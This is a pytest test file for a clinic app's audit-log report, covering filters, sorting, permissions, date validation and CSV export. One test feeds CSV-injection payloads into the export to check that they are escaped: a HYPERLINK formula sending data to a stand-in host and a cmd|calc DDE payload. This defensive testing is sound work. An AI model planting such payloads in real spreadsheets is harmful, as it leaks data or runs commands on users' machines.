import csv
import io

import pytest

from ketaflow.audit import services as audit


def _events(clinic, staff, patient):
    audit.record(action="read", clinic=clinic, actor=staff["nurse"], patient=patient, obj=patient)
    audit.record(action="update", clinic=clinic, actor=staff["owner"], patient=patient, obj=patient)
    audit.record(action="login", clinic=clinic, actor=staff["prescriber"])


def test_report_filters_sorts_and_exports(clinic, staff, patient, client_for):
    _events(clinic, staff, patient)
    client = client_for(staff["owner"])
    page = client.get("/audit/", {"action": "read"})
    assert page.status_code == 200
    rows = page.context["rows"]
    assert [r.action for r in rows] == ["read"]
    assert (
        client.get("/audit/", {"user": staff["prescriber"].pk}).context["rows"][0].action == "login"
    )
    assert len(client.get("/audit/", {"patient": patient.pk}).context["rows"]) == 2
    by_action = [r.action for r in client.get("/audit/", {"sort": "action"}).context["rows"]]
    assert by_action == sorted(by_action)
    bad = client.get("/audit/", {"date_from": "yesterday"})
    assert "date_from: use a date as YYYY-MM-DD." in bad.content.decode()

    response = client.get("/audit/export.csv", {"action": "update"})
    assert response["Content-Type"].startswith("text/csv")
    table = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert table[0][:4] == ["seq", "at", "actor", "action"]
    assert [row[3] for row in table[1:]] == ["update"]
    assert table[1][6] == patient.mrn
    # The export itself is audited.
    assert client.get("/audit/", {"action": "export"}).context["rows"][0].detail["format"] == "csv"


def test_report_api_and_permissions(clinic, staff, patient, client_for):
    _events(clinic, staff, patient)
    owner = client_for(staff["owner"])
    data = owner.get("/api/v1/audit/events", {"action": "update"}).json()
    assert [e["action"] for e in data["items"]] == ["update"]
    bad = owner.get("/api/v1/audit/events", {"sort": "nonsense"})
    assert bad.status_code == 422 and [e["field"] for e in bad.json()["errors"]] == ["sort"]
    for role in ("prescriber", "nurse", "therapist", "front_desk"):
        client = client_for(staff[role])
        assert client.get("/audit/").status_code == 403
        assert client.get("/api/v1/audit/events").status_code == 403


def test_sort_ties_follow_the_chosen_direction(clinic, staff, patient):
    """Within one action, ascending lists oldest first and descending newest first, so each
    sort reads one (clinic, column, at) index in a single direction."""
    from ketaflow.audit import selectors

    first = audit.record(action="read", clinic=clinic, actor=staff["nurse"])
    second = audit.record(action="read", clinic=clinic, actor=staff["nurse"])
    login = audit.record(action="login", clinic=clinic, actor=staff["nurse"])
    ascending = list(selectors.report(clinic, selectors.parse_filter({"sort": "action"})))
    descending = list(selectors.report(clinic, selectors.parse_filter({"sort": "-action"})))
    assert ascending == [login, first, second]
    assert descending == [second, first, login]


def test_object_types_lists_each_type_of_this_clinic_once(clinic, other_clinic, staff, patient):
    from ketaflow.audit import selectors

    _events(clinic, staff, patient)
    audit.record(action="read", clinic=clinic, object_type="measures.response")
    audit.record(action="read", clinic=other_clinic, object_type="other.secret")
    assert selectors.object_types(clinic) == ["", "measures.response", "patients.patient"]
    assert selectors.object_types(other_clinic) == ["other.secret"]
    assert selectors.object_types(None) == []


def test_csv_export_escapes_formula_cells(clinic, staff, patient, client_for):
    """OWASP CSV injection: a cell starting with =, +, -, @, tab or CR is prefixed with a
    single quote, so a spreadsheet shows it as text instead of running it."""
    from ketaflow.audit import context

    hostile = {
        '=HYPERLINK("http://evil.test/?"&A1,"Open")': '\'=HYPERLINK("http://evil.test/?"&A1,"Open")',
        "+1+cmd|' /C calc'!A0": "'+1+cmd|' /C calc'!A0",
        "-2+3": "'-2+3",
        "@SUM(1,2)": "'@SUM(1,2)",
        "\t=1+1": "'\t=1+1",
        "\r=1+1": "'\r=1+1",
        "Mozilla/5.0 (X11) a=b": "Mozilla/5.0 (X11) a=b",
    }
    for agent in hostile:
        token = context.set_current(context.RequestContext(user_agent=agent, request_id="=rid"))
        try:
            audit.record(action="read", clinic=clinic, actor=staff["nurse"], patient=patient)
        finally:
            context.reset(token)
    response = client_for(staff["owner"]).get("/audit/export.csv", {"action": "read"})
    assert response.status_code == 200
    table = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode(), newline="")))
    agents = sorted(row[8] for row in table[1:])
    assert agents == sorted(hostile.values())
    assert {row[9] for row in table[1:]} == {"'=rid"}
    for row in table[1:]:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))


@pytest.mark.parametrize(
    ("params", "field"),
    [
        ({"date_from": "0001-01-01"}, "date_from"),
        ({"date_to": "0001-01-01"}, "date_to"),
        ({"date_from": "9999-12-31"}, "date_from"),
        ({"date_to": "9999-12-31"}, "date_to"),
        ({"date_from": "2026-02-30"}, "date_from"),
        ({"date_to": "not-a-date"}, "date_to"),
        ({"date_from": "2026-13-01"}, "date_from"),
        ({"date_from": "2026-05-02", "date_to": "2026-05-01"}, "date_to"),
        ({"user": "100000000000000000000"}, "user"),
        ({"patient": "²"}, "patient"),
        ({"page": "100000000000000000000"}, "page"),
        ({"page": "0"}, "page"),
    ],
)
def test_bad_filters_answer_4xx_naming_the_field(clinic, staff, client_for, params, field):
    """Years 1 and 9999, impossible dates and huge numbers: 400 on the pages and 422 with the
    field named on the API (its documented validation error), never 500."""
    clinic.timezone = "Pacific/Kiritimati"  # UTC+14: year 1 would underflow when shifted to UTC
    clinic.save()
    audit.record(action="login", clinic=clinic, actor=staff["owner"])
    owner = client_for(staff["owner"])
    page = owner.get("/audit/", params)
    assert page.status_code == 400
    assert f"{field}: " in page.content.decode()
    assert page.context["rows"] == []
    export = owner.get("/audit/export.csv", params)
    if field != "page":
        assert export.status_code == 400
        assert f"{field}: " in export.content.decode()
    api = owner.get("/api/v1/audit/events", params)
    assert api.status_code == 422
    assert api["Content-Type"].startswith("application/json")
    assert field in {e["field"] for e in api.json()["errors"]}


def test_edge_dates_inside_the_bounds_work(clinic, staff, client_for):
    audit.record(action="login", clinic=clinic, actor=staff["owner"])
    owner = client_for(staff["owner"])
    params = {"date_from": "1900-01-01", "date_to": "2999-12-31"}
    assert [r.action for r in owner.get("/audit/", params).context["rows"]] == ["login"]
    assert [e["action"] for e in owner.get("/api/v1/audit/events", params).json()["items"]] == [
        "login"
    ]
